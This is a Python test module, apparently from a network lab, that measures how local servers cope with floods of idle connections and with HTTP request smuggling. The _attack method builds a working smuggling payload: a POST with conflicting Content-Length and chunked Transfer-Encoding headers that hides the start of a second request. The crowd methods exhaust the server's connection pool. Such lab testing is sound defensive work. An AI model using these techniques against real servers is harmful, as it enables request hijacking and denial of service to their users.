"""What servers suffer: idle connections, and requests with two lengths."""

from __future__ import annotations

import json
import re
import socket
import time
from pathlib import Path
from typing import TYPE_CHECKING

from testbed import sockets

from .clients import Base, request
from .servers import APP, BALANCER, CARELESS, NGINX, STRICT

if TYPE_CHECKING:
    from testbed import Action

IDLE = 100
"""Connections of one batch; waitress serves at most 100 at a time."""

BLOCKED_S = 20
MEMORY = "memory"
"""Log of what the kernel counts; not an event, since a page more or less is no difference."""


class Crowds(Base):
    """Idle connections, and attackers."""

    _idle: list[socket.socket]
    _newcomer: sockets.TcpSocket

    # ---- idle connections

    def crowds(self) -> dict[str, Action]:
        """Many connections without work."""
        count = 2 if "few-idle" in self.faults else IDLE
        return {
            "idle-none": lambda _: self._begin(),
            "idle-one-batch": lambda _: self._add_idle(count, NGINX),
            "idle-two-batches": lambda _: self._add_idle(count, NGINX),
            "idle-over": lambda _: self._leave(),
            "crowded": lambda _: self._crowd(count),
            "released": lambda _: self._release(),
        }

    def _begin(self) -> None:
        self._idle = []
        self._count()

    def _add_idle(self, count: int, port: int) -> None:
        """More connections, each of which has had a response."""
        new = self._connect_all(count, port)
        for sock in new:
            sock.sendall(request("/index.html"))
        self.net.sleep(2 * self.rtt_s + 0.2)
        self._idle += new
        self._count()

    def _connect_all(self, count: int, port: int) -> list[socket.socket]:
        """Connections that are opened at the same time."""
        new = [self.net.inside("h1", socket.socket) for _ in range(count)]
        for sock in new:
            sock.setblocking(False)
            sock.connect_ex((self.server, port))
        self.net.sleep(2 * self.rtt_s + 0.2)
        return new

    def _count(self) -> None:
        """What the kernel has of sockets, and in memory for its own objects."""
        sockets.observe(self.net, "h2")
        row = {"time_ns": time.time_ns(), **_memory()}
        with (self.net.path / "logs" / f"{MEMORY}.log").open("a") as log:
            log.write(json.dumps(row) + "\n")

    def _leave(self) -> None:
        for sock in self._idle:
            sock.close()
        self._idle.clear()
        self.net.sleep(1.0)
        self._count()

    def _crowd(self, count: int) -> None:
        """As many idle connections as waitress takes, and a client that has a request."""
        self._idle = self._connect_all(count, APP)
        self._newcomer = self.open(APP)
        self._newcomer.send(request("/notes/1"))
        self.net.sleep(BLOCKED_S)

    def _release(self) -> None:
        self._leave()
        self.receive(self._newcomer)
        self._newcomer.close()

    # ---- smuggling

    def smuggling(self) -> dict[str, Action]:
        """An attacker and a victim, at each proxy."""
        return {
            "smuggled": lambda _: self._smuggle(CARELESS),
            "refused": lambda _: self._smuggle(STRICT),
            "one-length": lambda _: self._smuggle(BALANCER),
        }

    def _smuggle(self, port: int) -> None:
        attacker, victim = self.open(port, "r2"), self.open(port, "r2")
        self.ask(attacker, self._attack())
        self.ask(victim, request("/notes/1"))
        attacker.close()
        victim.close()

    def _attack(self) -> bytes:
        """A POST with two lengths; behind the shorter one, the beginning of another request."""
        text = b'{"text": "x"}'
        body = f"{len(text):x}\r\n".encode() + text + b"\r\n0\r\n\r\n"
        coding = ["Transfer-Encoding: chunked"]
        if "one-length" in self.faults:
            body, coding = text, []
        else:
            body += b"GET /notes/2 HTTP/1.1\r\nX-Rest: "
        length = f"Content-Length: {len(body)}"
        kind = "Content-Type: application/json"
        return request("/notes", kind, length, *coding, method="POST") + body


def _memory() -> dict[str, int]:
    """Bytes of the kernel's own objects, and of one TCP socket among them."""
    slab = re.search(r"^Slab:\s+(\d+) kB", Path("/proc/meminfo").read_text(), re.M)
    tcp = re.search(r"^TCP\s+(\d+)", Path("/proc/self/net/protocols").read_text(), re.M)
    return {
        "slab_bytes": 1024 * int(slab[1]) if slab else 0,
        "socket_bytes": int(tcp[1]) if tcp else 0,
    }
